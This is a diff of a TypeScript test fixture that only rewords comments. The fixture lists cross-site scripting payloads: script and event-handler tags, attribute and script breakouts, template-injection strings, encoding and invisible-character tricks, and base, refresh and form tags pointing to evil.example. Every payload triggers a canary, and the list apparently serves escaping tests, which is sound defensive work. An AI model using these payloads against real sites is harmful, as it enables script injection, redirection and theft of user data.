@@ -1,7 +1,7 @@
-// What a script would do if any of these were taken for more than text.
+// The code that runs if one of these texts is interpreted as script.
 const hit = 'window.canary=1'
 
-/** Texts that are markup, script or a way out of either, where a page does not escape them. Each has at most 255 characters. */
+/** Texts that act as markup or script on a page that does not escape them. Each has at most 255 characters. */
 export const payloads: readonly string[] = [
   // elements
   `<script>${hit}</script>`,
@@ -25,7 +25,7 @@ export const payloads: readonly string[] = [
   `<style>@keyframes k{}*{animation:k 1ms}</style><b onanimationstart=${hit}>x</b>`,
   `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
   `<form action="https://evil.example/"><button>Go on</button></form>`,
-  // out of an attribute
+  // break out of an attribute
   `"><script>${hit}</script>`,
   `'><script>${hit}</script>`,
   `" autofocus onfocus="${hit}`,
@@ -33,7 +33,7 @@ export const payloads: readonly string[] = [
   `x onmouseover=${hit} onfocus=${hit} autofocus`,
   `" onerror="${hit}" src="x`,
   `\`><script>${hit}</script>`,
-  // out of another element, a comment or a script
+  // break out of another element, a comment or a script
   `</title><script>${hit}</script>`,
   `</style><script>${hit}</script>`,
   `</textarea></noscript></template></select><script>${hit}</script>`,
@@ -45,7 +45,7 @@ export const payloads: readonly string[] = [
   `';${hit};//`,
   `\\";${hit};//`,
   `\`;${hit};//`,
-  // what templates, formats and decoders make of it
+  // interpreted by templates, formats and decoders
   `\${${hit}}`,
   `#{${hit}} {{${hit}}} <%= ${hit} %> {%raw%}`,
   `{{constructor.constructor('${hit}')()}}`,
@@ -56,7 +56,7 @@ export const payloads: readonly string[] = [
   `\\u003cscript\\u003e${hit}\\u003c/script\\u003e`,
   `+ADw-script+AD4-${hit}+ADw-/script+AD4-`,
   `javascript:${hit}`,
-  // characters that end lines, hide, or turn text around
+  // characters that end lines, are invisible, or reverse the direction of text
   `\u2028<script>${hit}</script>\u2029`,
   `\u2028${hit}//`,
   `\ufeff<script>${hit}</script>`,
@@ -70,7 +70,7 @@ export const payloads: readonly string[] = [
   `\u{1d4d0} \u{1f469}\u200d\u{1f4bb} <script>${hit}</script>`,
 ]
 
-/** Addresses that would break out of an attribute or a script, were they put there as they are. */
+/** URLs that break out of an attribute or a script when they are inserted unescaped. */
 export const payloadUrls: readonly string[] = [
   `https://example.com/"onmouseover="${hit}`,
   `https://example.com/?q="><script>${hit}</script>`,
